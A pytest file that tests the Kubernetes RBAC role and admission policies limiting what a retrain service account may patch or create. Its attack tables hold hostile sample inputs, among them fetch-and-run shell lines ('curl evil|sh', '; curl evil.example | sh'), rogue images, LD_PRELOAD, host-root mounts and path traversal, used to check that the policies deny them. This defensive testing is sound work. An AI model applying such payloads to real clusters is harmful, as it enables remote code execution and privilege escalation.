"""What the retrain service's account may do (issue 23, deliverable 9): RBAC by name, and the admission policies.

The Role (base/retrain.yaml) names the one InferenceService it patches; what RBAC cannot narrow (``create``
on rayjobs, ``get`` on the RayJobs it made, ``list`` on pods) is said there. Patching a pod template and
creating RayJobs would still amount to running any image in the namespace, so two ValidatingAdmissionPolicies
(base/retrain-admission.yaml) limit what the account's requests may change. No API server here: their CEL is
evaluated with cel-python (the CEL spec's Python implementation, RE2 regular expressions) the way the API
server does, match constraints, match conditions, variables, parameter and ``failurePolicy: Fail`` (an
expression that errs denies), against

* every patch the automatic rollout sends (``pipelines.rollout.canary``: start, next step, promote, roll back,
  restore) and the RayJob ``submit_fleet_retrain`` creates through a stand-in API server: admitted;
* what an attacker holding the account's token would send (another image, a command, env, a volume, a model
  URI outside the registry, a shell in the RayJob's entrypoint, ...): denied, each for its own reason;
* the same requests from another user (an administrator): not the policies' business.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from pipelines.retrain.settings import RetrainSettings
from pipelines.rollout import canary
from pipelines.training import rayjob
from tests.support import (
    ISVC,
    NAMESPACE,
    RAYJOBS,
    TARGETS,
    Recorder,
    by_target,
    find,
    json_patch,
    kubeconfig,
    one,
    render,
    selects,
    workloads,
)

celpy = pytest.importorskip("celpy", reason="cel-python (a test extra) evaluates the admission policies' CEL")

RBAC = "rbac.authorization.k8s.io"
VAP = ("admissionregistration.k8s.io", "ValidatingAdmissionPolicy")
BINDING = ("admissionregistration.k8s.io", "ValidatingAdmissionPolicyBinding")
RAYJOB = ("ray.io", "RayJob")
RETRAIN = f"system:serviceaccount:{NAMESPACE}:storecast-retrain"
ADMIN = "kubernetes-admin"
MODEL = "storecast"


# ---------------------------------------------------------------------------------------------
# RBAC


@by_target
def test_the_role_names_what_it_can(target):
    docs = render(target)
    assert not [d for d in docs if d["kind"] in ("ClusterRole", "ClusterRoleBinding")]
    [role] = find(docs, (RBAC, "Role"))
    isvc = RetrainSettings.__dataclass_fields__["isvc"].default  # the retrain service patches this one
    [retrain] = [c for _, _, c in workloads(docs) if c["args"][0] == "retrain"]
    assert "--isvc" not in retrain["args"] and find(docs, ISVC, isvc)
    assert role["rules"] == [
        {"apiGroups": ["serving.kserve.io"], "resources": ["inferenceservices"], "resourceNames": [isvc],
         "verbs": ["get", "patch"]},
        # create cannot be narrowed by name (RBAC sees no name on a create); get reads back the jobs it made,
        # named per job; both limited by the policy storecast-retrain-rayjobs instead
        {"apiGroups": ["ray.io"], "resources": ["rayjobs"], "verbs": ["create", "get"]},
        {"apiGroups": [""], "resources": ["pods"], "verbs": ["list"]}]  # the canary pods' /metrics
    [binding] = find(docs, (RBAC, "RoleBinding"))
    assert binding["roleRef"] == {"apiGroup": RBAC, "kind": "Role", "name": role["metadata"]["name"]}
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "storecast-retrain", "namespace": NAMESPACE}]
    accounts = {a["metadata"]["name"]: a for a in find(docs, ("", "ServiceAccount"))}
    assert accounts.keys() == {"storecast-retrain", "storecast-uploader"}  # the uploader: bound to nothing
    assert accounts["storecast-uploader"]["automountServiceAccountToken"] is False
    for label, spec, container in workloads(docs):  # only the retrain service runs as it; no other pod has a token
        if container["args"][0] == "retrain":
            assert spec["serviceAccountName"] == "storecast-retrain", label
        else:
            assert "serviceAccountName" not in spec and spec.get("automountServiceAccountToken") is False, label


@by_target
def test_the_policies_bind_to_the_account_and_namespace_of_the_role(target):
    docs = render(target)
    policies = {p["metadata"]["name"]: p for p in find(docs, VAP)}
    assert set(policies) == {"storecast-retrain-canary", "storecast-retrain-rayjobs"}
    for b in find(docs, BINDING):
        policy = policies[b["spec"]["policyName"]]
        assert b["spec"]["validationActions"] == ["Deny"] and policy["spec"]["failurePolicy"] == "Fail"
        assert b["spec"]["matchResources"]["namespaceSelector"] == {
            "matchLabels": {"kubernetes.io/metadata.name": NAMESPACE}}
        [condition] = policy["spec"]["matchConditions"]
        assert condition["expression"] == f"request.userInfo.username == '{RETRAIN}'"
    assert {b["spec"]["policyName"] for b in find(docs, BINDING)} == set(policies)


# ---------------------------------------------------------------------------------------------
# The admission of one request, as the API server does it


def cel(expression: str, activation: dict[str, Any]) -> Any:
    env = celpy.Environment()
    return env.program(env.compile(expression)).evaluate(activation)


@dataclass
class Request:
    """One admission request: who, what (group, resource, operation), the object after and before."""

    username: str
    operation: str
    group: str
    resource: str
    obj: dict
    old: dict | None = None
    namespace: str = NAMESPACE


@dataclass
class Verdict:
    evaluated: list[str]  # the policies that applied to the request
    denied: list[str]  # the messages of the validations that failed ([]: admitted)


def admit(docs: list[dict], req: Request, param: Callable[[str, str], dict | None]) -> Verdict:
    """Which policies judge ``req``, and what they deny. ``param(namespace, name)`` is the parameter object of
    a binding's paramRef, as the API server would look it up (None: not found)."""
    denied, evaluated = [], []
    namespaces = {d["metadata"]["name"]: d["metadata"].get("labels", {}) for d in find(docs, ("", "Namespace"))}
    ns_labels = {**namespaces.get(req.namespace, {}), "kubernetes.io/metadata.name": req.namespace}
    for binding in find(docs, BINDING):
        policy = one(docs, VAP, binding["spec"]["policyName"])["spec"]
        rules = policy["matchConstraints"]["resourceRules"]
        if not any(req.group in r["apiGroups"] and req.resource in r["resources"] and req.operation in r["operations"]
                   for r in rules):
            continue
        if not selects(binding["spec"]["matchResources"]["namespaceSelector"], ns_labels):
            continue
        activation = {"object": celpy.json_to_cel(req.obj), "oldObject": celpy.json_to_cel(req.old),
                      "request": celpy.json_to_cel({"operation": req.operation, "namespace": req.namespace,
                                                    "userInfo": {"username": req.username}})}
        if not all(cel(c["expression"], activation) == celpy.celtypes.BoolType(True)
                   for c in policy.get("matchConditions", [])):
            continue
        evaluated.append(binding["spec"]["policyName"])
        if "paramRef" in binding["spec"]:
            ref = binding["spec"]["paramRef"]
            found = param(ref["namespace"], ref["name"])
            if found is None:
                assert ref["parameterNotFoundAction"] == "Deny"
                denied.append(f"{binding['metadata']['name']}: no parameter {ref['name']}")
                continue
            activation["params"] = celpy.json_to_cel(found)
        variables: dict = {}
        for v in policy.get("variables", []):
            variables[celpy.celtypes.StringType(v["name"])] = cel(
                v["expression"], {**activation, "variables": celpy.celtypes.MapType(variables)})
        activation["variables"] = celpy.celtypes.MapType(variables)
        for check in policy["validations"]:
            try:
                result = cel(check["expression"], activation)
            except celpy.CELEvalError:  # an error is a failure: failurePolicy Fail
                result = None
            if not (isinstance(result, celpy.celtypes.BoolType) and bool(result)):  # an error value too
                denied.append(check["message"])
    return Verdict(evaluated, denied)


# ---------------------------------------------------------------------------------------------
# The canary patches


def patch_request(docs: list[dict], isvc: dict, ops: list[dict], user: str = RETRAIN) -> Verdict:
    after = json_patch(isvc, ops)
    return admit(docs, Request(user, "UPDATE", "serving.kserve.io", "inferenceservices", after, isvc),
                 lambda ns, name: None)


def rollout(isvc: dict) -> list[tuple[str, dict, list[dict]]]:
    """(step, object before, patch) of a whole rollout of version 7 and of a roll back, as KubeTarget sends them."""
    steps, current = [], isvc
    for name, make in [("start 10%", lambda d: canary.start_patch(d, MODEL, 7, 10)),
                       ("next step 50%", lambda d: canary.percent_patch(d, 50)),
                       ("promote", lambda d: canary.promote_patch(d, MODEL)),
                       ("start again", lambda d: canary.start_patch(d, MODEL, 8, 10)),
                       ("roll back at once", lambda d: canary.rollback_follow_patch(d, MODEL)),
                       ("restore the stable form", lambda d: canary.restore_patch(d, MODEL)),
                       ("pin version 8 (storecast canary start)", lambda d: canary.start_patch(d, MODEL, 8, 0)),
                       ("roll back to a version", lambda d: canary.rollback_patch(d, MODEL, 6))]:
        ops = make(current)
        steps.append((name, current, ops))
        current = json_patch(current, ops)
    return steps


# overlays/mlserver: the automatic canary patches the custom predictor's --model_uri, which a `model` has not
@pytest.mark.parametrize("target", [t for t in TARGETS if t not in ("overlays/ray", "overlays/mlserver")])
def test_every_rollout_patch_is_admitted(target):
    docs = render(target)
    isvc = one(docs, ISVC, "storecast")
    for step, before, ops in rollout(isvc):
        assert patch_request(docs, before, ops) == Verdict(["storecast-retrain-canary"], []), f"{step}: {ops}"


PREDICTOR = "/spec/predictor/containers/0"
ATTACKS = {  # what a stolen token of the account would try; each denied, with the reason that names it
    "another image": ([{"op": "replace", "path": f"{PREDICTOR}/image", "value": "evil.example/x:1"}], "image"),
    "a command": ([{"op": "add", "path": f"{PREDICTOR}/command", "value": ["sh", "-c", "curl evil|sh"]}], "image"),
    "an env var": ([{"op": "add", "path": f"{PREDICTOR}/env/-", "value": {"name": "LD_PRELOAD", "value": "/x"}}],
                   "env"),
    "a host path": ([{"op": "add", "path": "/spec/predictor/volumes/-",
                      "value": {"name": "host", "hostPath": {"path": "/"}}}], "spec.predictor"),
    "another account": ([{"op": "add", "path": "/spec/predictor/serviceAccountName", "value": "default"}],
                        "spec.predictor"),
    "a token": ([{"op": "replace", "path": "/spec/predictor/automountServiceAccountToken", "value": True}],
                "spec.predictor"),
    "a second container": ([{"op": "add", "path": "/spec/predictor/containers/-",
                             "value": {"name": "x", "image": "evil.example/x:1"}}], "image"),
    "no auth file": ([{"op": "remove", "path": f"{PREDICTOR}/args/13"}] * 2, "arguments"),
    "another argument": ([{"op": "add", "path": f"{PREDICTOR}/args/-", "value": "--workers"}], "arguments"),
    "a model elsewhere": ([{"op": "replace", "path": f"{PREDICTOR}/args/2", "value": "s3://evil/model"}], "arguments"),
    "a file as the model": ([{"op": "replace", "path": f"{PREDICTOR}/args/2", "value": "models:/../../etc/x/1"}],
                            "models:/storecast/N"),
    "another registered model": ([{"op": "replace", "path": f"{PREDICTOR}/args/2", "value": "models:/other/3"}],
                                 "models:/storecast/N"),
    "a canary over 100%": ([{"op": "add", "path": "/spec/predictor/canaryTrafficPercent", "value": 150}], "0..100"),
    "the transformer": ([{"op": "replace", "path": "/spec/transformer/containers/0/image", "value": "evil:1"}],
                        "spec.predictor only"),
    "an annotation": ([{"op": "add", "path": "/metadata/annotations/serving.kserve.io~1autoscalerClass",
                        "value": "external"}], "annotations"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_else_the_account_would_patch_is_denied(attack):
    docs = render("base")
    isvc = one(docs, ISVC, "storecast")
    assert isvc["spec"]["predictor"]["containers"][0]["args"][13] == "--auth-file"  # where the attack aims
    ops, reason = ATTACKS[attack]
    denied = patch_request(docs, isvc, ops).denied
    assert denied and any(reason in message for message in denied), denied
    assert patch_request(docs, isvc, ops, user=ADMIN) == Verdict([], [])  # people, controllers: RBAC's business


# ---------------------------------------------------------------------------------------------
# The fleet retrain's RayJob


@pytest.fixture(scope="module")
def fleet_job(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict, dict]:
    """(the RayJob submit_fleet_retrain creates, the template as the API server holds it), through a stand-in
    API server holding overlays/ray's rendered RayJob."""
    template = {**one(render("overlays/ray"), RAYJOB, rayjob.TEMPLATE), "status": {"jobStatus": "SUCCEEDED"}}
    made: list[dict] = []

    def respond(method: str, path: str, body: bytes):
        if method == "GET" and path == f"{RAYJOBS}/{rayjob.TEMPLATE}":
            return 200, template
        if method == "POST" and path == RAYJOBS:
            made.append(json.loads(body))
            return 201, made[-1]
        return 404, {"kind": "Status", "status": "Failure", "reason": "NotFound", "code": 404}

    api = Recorder(respond)
    config = kubeconfig(Path(tmp_path_factory.mktemp("kube")) / "kubeconfig", api.url, "t0ken", NAMESPACE)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("KUBECONFIG", str(config))
            rayjob.submit_fleet_retrain(reason="nightly: 1115 stale stores", job_id="job-7f3a")
    finally:
        api.close()
    [job] = made
    return job, template


def create_request(docs: list[dict], job: dict, user: str = RETRAIN) -> Verdict:
    templates = {(d["metadata"]["namespace"], d["metadata"]["name"]): d for d in find(docs, RAYJOB)}
    return admit(docs, Request(user, "CREATE", "ray.io", "rayjobs", job), lambda ns, name: templates.get((ns, name)))


def test_the_fleet_retrain_is_admitted_and_runs_the_template(fleet_job):
    job, template = fleet_job
    assert job["spec"]["rayClusterSpec"] == template["spec"]["rayClusterSpec"]
    assert create_request(render("overlays/ray"), job) == Verdict(["storecast-retrain-rayjobs"], [])


def test_without_the_template_the_account_creates_no_rayjob(fleet_job):
    job, _ = fleet_job
    assert create_request(render("base"), job).denied == ["storecast-retrain-rayjobs: no parameter storecast-train"]


HEAD = "/spec/rayClusterSpec/headGroupSpec/template/spec/containers/0"
WORKER = "/spec/rayClusterSpec/workerGroupSpecs/0/template/spec"
RAY_ATTACKS = {
    "another image": ([{"op": "replace", "path": f"{WORKER}/containers/0/image", "value": "evil:1"}], "cluster"),
    "a sidecar": ([{"op": "add", "path": f"{WORKER}/containers/-", "value": {"name": "x", "image": "evil:1"}}],
                  "cluster"),
    "a host path": ([{"op": "add", "path": f"{WORKER}/volumes/-", "value": {"name": "h", "hostPath": {"path": "/"}}}],
                    "cluster"),
    "an account": ([{"op": "add", "path": f"{WORKER}/serviceAccountName", "value": "storecast-retrain"}], "cluster"),
    "an env var": ([{"op": "add", "path": f"{HEAD}/env", "value": [{"name": "PYTHONPATH", "value": "/x"}]}],
                   "cluster"),
    "a runtime env": ([{"op": "add", "path": "/spec/runtimeEnvYAML", "value": "pip: [evil]"}], "cluster"),
    "a shell": ([{"op": "replace", "path": "/spec/entrypoint",
                  "value": rayjob.entrypoint(alias="challenger", extra=("--parent", "@champion", "--force"))
                  + "; curl evil.example | sh"}], "entrypoint"),
    "another registry": ([{"op": "replace", "path": "/spec/entrypoint",
                           "value": rayjob.entrypoint(tracking_uri="http://evil.example:5000", alias="challenger",
                                                      extra=("--parent", "@champion", "--force"))}], "entrypoint"),
    "straight to champion": ([{"op": "replace", "path": "/spec/entrypoint",
                               "value": rayjob.entrypoint(alias="champion", extra=("--parent", "@champion",
                                                                                   "--force"))}], "entrypoint"),
    "another name": ([{"op": "replace", "path": "/metadata/name", "value": "storecast-train-2"}], "named"),
    "an annotation": ([{"op": "add", "path": "/metadata/annotations/ray.io~1ft-enabled", "value": "true"}],
                      "annotations"),
}


@pytest.mark.parametrize("attack", RAY_ATTACKS)
def test_any_other_rayjob_is_denied(fleet_job, attack):
    job, _ = fleet_job
    ops, reason = RAY_ATTACKS[attack]
    docs = render("overlays/ray")
    denied = create_request(docs, json_patch(job, ops)).denied
    assert denied and any(reason in message for message in denied), denied
    assert create_request(docs, json_patch(job, ops), user=ADMIN) == Verdict([], [])
